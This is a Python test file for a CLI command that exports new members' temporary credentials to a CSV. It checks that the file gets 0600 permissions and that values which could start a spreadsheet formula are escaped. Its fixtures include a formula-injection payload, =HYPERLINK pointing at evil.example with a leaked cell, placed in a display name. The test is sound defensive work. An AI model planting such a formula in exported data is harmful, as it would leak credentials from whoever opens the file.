"""`habitat members onboard --credentials-out`: the credentials file is safe to open in a spreadsheet."""

from __future__ import annotations

import csv
import stat

import httpx
import pytest
from habitat_cli import members
from habitat_cli.app import app
from habitat_cli.client import signed_in
from habitat_cli.credentials import Credentials, CredentialStore
from typer.testing import CliRunner

URL = "https://habitat.example.coop"
EVIL = '=HYPERLINK("http://evil.example/?leak="&A2,"Open me")'
CREDENTIALS = [
    {"email": "ana@demo.coop", "display_name": EVIL, "temporary_password": "s3cret-Pass"},
    {"email": "ben@demo.coop", "display_name": "-Ben +1 @home", "temporary_password": "Xy_9-z"},
    {"email": "cy@demo.coop", "display_name": "Cy Ode", "temporary_password": "plainPass1"},
]
REPORT = {
    "dry_run": False,
    "rows": [{"line": i + 2, "email": c["email"], "action": "created", "changes": None} for i, c in enumerate(CREDENTIALS)],
    "summary": {"created": 3, "updated": 0, "unchanged": 0},
    "credentials": CREDENTIALS,
    "welcome_emails": [],
}


@pytest.fixture
def gateway(tmp_path, monkeypatch) -> list[str]:
    store = CredentialStore(tmp_path / "config")
    store.save(Credentials(URL, "access-1", "refresh-1"))
    seen: list[str] = []

    def answer(request: httpx.Request) -> httpx.Response:
        seen.append(f"{request.method} {request.url.path}")
        return httpx.Response(200, json=REPORT)

    monkeypatch.setattr(members, "signed_in", lambda: signed_in(store, httpx.MockTransport(answer)))
    return seen


def test_a_formula_in_a_display_name_is_written_as_text(gateway, tmp_path):
    roster = tmp_path / "roster.csv"
    roster.write_text("email,display_name,role\nana@demo.coop,x,member\n")
    out = tmp_path / "credentials.csv"
    result = CliRunner().invoke(app, ["members", "onboard", str(roster), "--credentials-out", str(out)])
    assert result.exit_code == 0, result.output
    assert gateway == ["POST /api/v1/members/import"]
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    with out.open(newline="", encoding="utf-8") as file:
        rows = list(csv.reader(file))
    assert rows == [
        ["email", "display_name", "temporary_password"],
        ["ana@demo.coop", "'" + EVIL, "s3cret-Pass"],
        ["ben@demo.coop", "'-Ben +1 @home", "Xy_9-z"],
        ["cy@demo.coop", "Cy Ode", "plainPass1"],
    ]
